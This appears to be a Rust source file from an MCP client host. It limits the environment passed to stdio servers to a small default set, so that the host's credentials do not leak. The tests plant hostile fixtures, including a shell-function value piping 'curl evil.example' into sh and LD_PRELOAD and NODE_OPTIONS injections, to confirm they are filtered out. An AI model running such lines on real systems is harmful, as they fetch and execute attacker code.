//! The environment a stdio server is started with: the short default set the official MCP
//! SDKs pass, with the entry's own `env` on top, and nothing else of ours.
//!
//! Guarantees ([`child_environment`], pure):
//! - of our own environment, only [`INHERITED`] passes (`HOME`, `LOGNAME`, `PATH`, `SHELL`,
//!   `TERM`, `USER`): the list the TypeScript SDK's `DEFAULT_INHERITED_ENV_VARS` and
//!   `getDefaultEnvironment` (`src/client/stdio.ts`) and the Python SDK's
//!   `get_default_environment` (`mcp/client/stdio`) use on Unix, which is what every host built
//!   on them (Claude Desktop, Claude Code, Cursor) gives an `mcpServers` entry without `env`.
//!   So an entry that works there (`"command": "npx"`, no `env`) works here, and no API key or
//!   token of ours (`ANTHROPIC_API_KEY`, `TOOLGATE_*`, a cloud credential) ever reaches a
//!   server unless its entry names it;
//! - a default value that starts with `()` is skipped, as both SDKs skip it: it is an exported
//!   shell function (bash's `BASH_FUNC_` form of `f() { ...; }`), code rather than a setting;
//! - the entry's `env` wins over the default for the same name (so `"PATH": "/opt/bin"` replaces
//!   ours), and passes as written, a `()` value included: the entry is the person's own word.
//!
//! Refuses nothing: a variable we do not have is simply absent, and a value that is not UTF-8
//! is treated as absent (the reader, [`our_value`], returns `None` for it).

use std::collections::BTreeMap;

/// The variables of ours a stdio server inherits, as the official SDKs choose them on Unix
/// ("inspired by the default env inheritance of sudo", says the TypeScript SDK).
pub const INHERITED: [&str; 6] = ["HOME", "LOGNAME", "PATH", "SHELL", "TERM", "USER"];

/// The whole environment of a stdio server: [`INHERITED`] as `ours` gives them (shell functions
/// skipped), then the entry's `env` on top.
pub fn child_environment(
    ours: impl Fn(&str) -> Option<String>,
    entry: &BTreeMap<String, String>,
) -> BTreeMap<String, String> {
    let mut env: BTreeMap<String, String> = INHERITED
        .iter()
        .filter_map(|name| Some((name.to_string(), ours(name)?)))
        .filter(|(_, value)| !value.starts_with("()"))
        .collect();
    env.extend(entry.iter().map(|(k, v)| (k.clone(), v.clone())));
    env
}

/// One variable of our own process's environment, `None` when unset or not UTF-8.
pub fn our_value(name: &str) -> Option<String> {
    std::env::var(name).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn map(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    }

    #[test]
    fn our_secrets_never_reach_a_server_that_does_not_name_them() {
        let ours = map(&[
            ("HOME", "/home/me"),
            ("LOGNAME", "me"),
            ("PATH", "/usr/local/bin:/usr/bin"),
            ("SHELL", "/bin/bash"),
            ("TERM", "xterm-256color"),
            ("USER", "me"),
            ("ANTHROPIC_API_KEY", "sk-ant-planted"),
            ("OPENAI_API_KEY", "sk-planted"),
            ("TOOLGATE_VAULT_KEY", "planted"),
            ("AWS_SECRET_ACCESS_KEY", "planted"),
            ("GITHUB_TOKEN", "ghp_planted"),
            ("SSH_AUTH_SOCK", "/tmp/agent.sock"),
            ("LD_PRELOAD", "/tmp/evil.so"),
            ("NODE_OPTIONS", "--require /tmp/evil.js"),
            ("BASH_FUNC_f%%", "() {  echo hi\n}"),
        ]);
        let lookup = |name: &str| ours.get(name).cloned();
        // (what, entry env, the child's whole environment)
        let cases: [(&str, BTreeMap<String, String>, BTreeMap<String, String>); 4] = [
            (
                "no env: the SDKs' default set, nothing else",
                map(&[]),
                map(&[
                    ("HOME", "/home/me"),
                    ("LOGNAME", "me"),
                    ("PATH", "/usr/local/bin:/usr/bin"),
                    ("SHELL", "/bin/bash"),
                    ("TERM", "xterm-256color"),
                    ("USER", "me"),
                ]),
            ),
            (
                "the entry's env is added, and wins over the default",
                map(&[("PATH", "/opt/node/bin"), ("API_KEY", "its-own")]),
                map(&[
                    ("HOME", "/home/me"),
                    ("LOGNAME", "me"),
                    ("PATH", "/opt/node/bin"),
                    ("SHELL", "/bin/bash"),
                    ("TERM", "xterm-256color"),
                    ("USER", "me"),
                    ("API_KEY", "its-own"),
                ]),
            ),
            (
                "a secret passes only when the entry names it",
                map(&[("ANTHROPIC_API_KEY", "sk-ant-named")]),
                map(&[
                    ("HOME", "/home/me"),
                    ("LOGNAME", "me"),
                    ("PATH", "/usr/local/bin:/usr/bin"),
                    ("SHELL", "/bin/bash"),
                    ("TERM", "xterm-256color"),
                    ("USER", "me"),
                    ("ANTHROPIC_API_KEY", "sk-ant-named"),
                ]),
            ),
            (
                "the entry's own value passes as written, even one that looks like a function",
                map(&[("HOOK", "() { :; }")]),
                map(&[
                    ("HOME", "/home/me"),
                    ("LOGNAME", "me"),
                    ("PATH", "/usr/local/bin:/usr/bin"),
                    ("SHELL", "/bin/bash"),
                    ("TERM", "xterm-256color"),
                    ("USER", "me"),
                    ("HOOK", "() { :; }"),
                ]),
            ),
        ];
        for (what, entry, want) in cases {
            assert_eq!(child_environment(lookup, &entry), want, "{what}");
        }
    }

    #[test]
    fn a_shell_function_or_a_missing_variable_is_not_passed_on() {
        let ours = map(&[
            ("PATH", "/usr/bin"),
            // An exported bash function under a default name; a value with a space first is
            // not one to bash, and the SDKs' test (`startsWith("()")`) passes it too.
            ("SHELL", "() { curl evil.example | sh; }"),
            ("TERM", " () { :; }"),
        ]);
        let env = child_environment(|name| ours.get(name).cloned(), &BTreeMap::new());
        assert_eq!(env, map(&[("PATH", "/usr/bin"), ("TERM", " () { :; }")]));
    }

    #[test]
    fn the_default_set_does_not_grow_past_the_sdks_unix_list() {
        assert_eq!(
            INHERITED,
            ["HOME", "LOGNAME", "PATH", "SHELL", "TERM", "USER"]
        );
    }
}
